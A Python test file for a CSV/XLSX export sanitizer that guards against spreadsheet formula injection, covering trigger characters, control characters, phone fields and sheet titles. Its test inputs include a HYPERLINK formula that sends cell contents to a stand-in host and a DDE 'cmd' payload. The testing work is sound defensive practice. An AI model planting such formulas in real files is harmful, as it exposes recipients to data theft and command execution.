"""Nothing a delegate typed becomes a formula in the file a colleague opens
(planner/exports/sanitize.py), issue 21: every trigger, full-width ＠ included, and a control
character in front of a trigger, which the CSV writer drops, must not let the formula through."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from planner.exports.sanitize import (
    EXCEL_CELL_MAX,
    FORMULA_TRIGGERS,
    csv_field,
    csv_phone_field,
    csv_row,
    is_formula_like,
    is_phone_number,
    set_text,
    sheet_title,
    text_cell,
    xlsx_text,
)

# OWASP CSV injection: = + - @ tab CR; and the full-width forms an IME types.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"Click")'


def test_every_trigger_the_docs_name_is_a_trigger():
    assert set(TRIGGERS) == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_csv_field_starting_with_a_trigger_is_quoted_with_an_apostrophe(trigger: str):
    out = csv_field(trigger + PAYLOAD)
    assert out.startswith("'") and not is_formula_like(out)


def test_full_width_at_sign_is_a_trigger():
    assert is_formula_like("＠SUM(1+1)*cmd|' /C calc'!A0")
    assert csv_field("＠SUM(1)") == "'＠SUM(1)"


@pytest.mark.parametrize("control", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f"])
def test_a_control_character_before_a_trigger_does_not_let_the_formula_through(control: str):
    out = csv_field(control + "=" + PAYLOAD)
    assert out == "'=" + PAYLOAD


def test_cr_is_neutralised_and_becomes_a_newline():
    assert csv_field("\r=1+1") == "'\n=1+1"
    assert csv_field("a\r\nb\rc") == "a\nb\nc"
    assert csv_field("plain text") == "plain text" and csv_field(None) == "" and csv_field(15) == "15"


# ------------------------------------------------------------------ the rule, stated from outside
# Written from the module's docs (sanitize.py and csv_field's docstring), not from its code, so a
# property below cannot agree with a wrong module by asking the module what to expect:
#
# * CSV: CRLF and CR become LF; the other C0 controls (not tab, not LF), DEL and lone surrogates
#   are dropped; a field whose text, after that, starts with a trigger (TRIGGERS above: = + - @
#   tab CR and the full-width ＝ ＋ － ＠) gets an apostrophe in front, and so does a text that
#   starts with CR. Nothing else changes: a leading space or LF is not a trigger (the docs and
#   OWASP list none), and a CR behind a dropped control is written as LF, which is none either.
# * XLSX: the characters XLSX forbids (C0 controls but tab, LF and CR; lone surrogates; U+FFFE,
#   U+FFFF) become U+FFFD; the cell is always a text cell ("s"), and gets Excel's quote prefix
#   exactly when its text starts with a trigger (the guard in a workbook: no apostrophe in the text).
CSV_DROPPED = frozenset(map(chr, [*range(0, 9), 11, 12, *range(14, 32), 127]))
XLSX_FORBIDDEN = frozenset(map(chr, [*range(0, 9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF]))
CONTROLS = "".join(sorted(CSV_DROPPED))
NOT_TRIGGERS = [" ", "\n", "'", "a", "1", "(", "＃", "·", "─", "\u3000", "＇"]


def _surrogate(ch: str) -> bool:
    return "\ud800" <= ch <= "\udfff"


def starts_with_trigger(text: str) -> bool:
    return text[:1] in TRIGGERS


def expected_csv(text: str) -> str:
    body = text.replace("\r\n", "\n").replace("\r", "\n")
    body = "".join(ch for ch in body if ch not in CSV_DROPPED and not _surrogate(ch))
    return "'" + body if starts_with_trigger(body) or text.startswith("\r") else body


def expected_xlsx(text: str) -> tuple[str, bool]:
    """(the cell's text, whether it carries the quote prefix)."""
    value = "".join("\ufffd" if ch in XLSX_FORBIDDEN or _surrogate(ch) else ch for ch in text)
    return value, starts_with_trigger(value)


# a cell text: any junk in front (controls the writer drops, spaces, LF), then a trigger or a
# character that is not one, then anything
CELL_TEXTS = st.one_of(
    st.builds(lambda junk, lead, rest: junk + lead + rest,
              st.text(alphabet=CONTROLS + " \n\r\t", max_size=3),
              st.sampled_from(TRIGGERS + NOT_TRIGGERS), st.text(max_size=20)),
    st.text(max_size=40),
)


def test_the_stated_rule_on_the_cases_it_names():
    assert expected_csv("=1") == "'=1" and expected_csv("\x01＠x") == "'＠x"
    assert expected_csv("\r=1") == "'\n=1" and expected_csv("\x01\r=1") == "\n=1"
    assert expected_csv(" =1") == " =1" and expected_csv("'=1") == "'=1"
    assert expected_xlsx("\x01=1") == ("\ufffd=1", False) and expected_xlsx("\t1") == ("\t1", True)


@given(text=CELL_TEXTS)
def test_is_formula_like_is_the_first_character_being_a_trigger(text: str):
    assert is_formula_like(text) is starts_with_trigger(text)


@given(prefix=st.sampled_from(TRIGGERS),
       junk=st.text(alphabet=CONTROLS, max_size=3),
       rest=st.text(max_size=20))
def test_no_csv_field_a_spreadsheet_reads_starts_with_a_trigger(prefix: str, junk: str, rest: str):
    """Every trigger behind every mix of the controls the writer drops is guarded (a CR behind
    one is written as LF, so that field needs no apostrophe: it no longer starts a formula)."""
    out = csv_field(junk + prefix + rest)
    assert out == expected_csv(junk + prefix + rest)
    assert not starts_with_trigger(out)
    assert out.startswith("'") if prefix != "\r" or not junk else out.startswith("\n")
    # and what a spreadsheet reads back through the csv module is the same text
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_ALL).writerow(csv_row([junk + prefix + rest]))
    [[back]] = list(csv.reader(io.StringIO(buf.getvalue())))
    assert back == out and not starts_with_trigger(back)


@given(text=CELL_TEXTS)
def test_a_csv_field_is_the_text_cleaned_with_an_apostrophe_exactly_when_it_starts_a_formula(text: str):
    assert csv_field(text) == expected_csv(text)


@given(text=CELL_TEXTS)
def test_an_xlsx_cell_is_always_text_with_the_quote_prefix_exactly_when_it_starts_a_formula(text: str):
    value, quoted = expected_xlsx(text)
    cell = set_text(Workbook().active["A1"], text)
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (value, "s", quoted)
    ws = Workbook(write_only=True).create_sheet()
    written = text_cell(ws, text)
    assert (written.value, written.data_type, bool(written.quotePrefix)) == (value, "s", quoted)


@pytest.mark.parametrize("phone, kept", [
    ("+81 6 1234 5678", True), ("+44 (0)20 7946-0958 ext. 12", True), ("06-1234-5678", True),
    ("+1+cmd|' /C calc'!A0", False), ("=HYPERLINK(1)", False), ("-2+3", False), ("+123", False),
    ("+1 234 567 890 123 456", False), ("+44 (0 20 7946", False),
])
def test_a_crm_phone_column_keeps_a_real_number_and_neutralises_the_rest(phone: str, kept: bool):
    assert is_phone_number(phone) is kept
    out = csv_phone_field(phone)
    assert (out == phone) is kept
    assert kept or not is_formula_like(out)


def test_phone_digits_are_counted_without_the_extension():
    assert is_phone_number("1234")
    assert is_phone_number("123456789012345")
    assert not is_phone_number("1234567890123456")
    assert is_phone_number("1234 x 123456")


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_an_xlsx_cell_starting_with_a_trigger_is_text_and_reads_back_unchanged(trigger: str, tmp_path):
    wb = Workbook()
    ws = wb.active
    set_text(ws["A1"], trigger + "SUM(1,2)")
    set_text(ws["A2"], "plain")
    path = tmp_path / "out.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    # (XML reads a CR back as LF: the cell is still the text, not a formula)
    assert back["A1"].value == (trigger + "SUM(1,2)").replace("\r", "\n") and back["A1"].data_type == "s"
    assert back["A1"].quotePrefix is True and back["A2"].quotePrefix is False


def test_xlsx_text_replaces_forbidden_controls_and_cuts_at_the_cell_limit():
    assert xlsx_text("a\x00b\x1fc\ttab\nnl") == "a\ufffdb\ufffdc\ttab\nnl"
    long = xlsx_text("x" * (EXCEL_CELL_MAX + 10))
    assert len(long) == EXCEL_CELL_MAX and long.endswith("…")
    assert xlsx_text("x" * EXCEL_CELL_MAX) == "x" * EXCEL_CELL_MAX
    assert xlsx_text(None) == ""


def test_sheet_titles_are_valid_unique_and_never_history():
    used: set[str] = set()
    assert sheet_title("Tanaka [Osaka]: 1/2", used) == "Tanaka Osaka 12"
    assert sheet_title("TANAKA [OSAKA]: 1/2", used) == "TANAKA OSAKA 12 (2)"
    assert sheet_title("history") == "history (1)"
    assert sheet_title("'quoted'") == "quoted"
    assert sheet_title("", fallback="Lead") == "Lead"
    long = sheet_title("名" * 40, used)
    assert len(long) == 31 and long in used
    again = sheet_title("名" * 40, used)
    assert again == "名" * 27 + " (2)" and len(again) == 31
    assert len(sheet_title("😀" * 20).encode("utf-16-le")) // 2 <= 31


def test_an_empty_value_is_an_empty_cell_not_the_word_none():
    assert csv_phone_field(None) == "" and csv_field(None) == ""
    assert sheet_title(None) == "Sheet"


def test_a_third_sheet_with_the_same_name_is_numbered_three():
    used: set[str] = set()
    assert [sheet_title("Tanaka", used) for _ in range(4)] == [
        "Tanaka", "Tanaka (2)", "Tanaka (3)", "Tanaka (4)"]
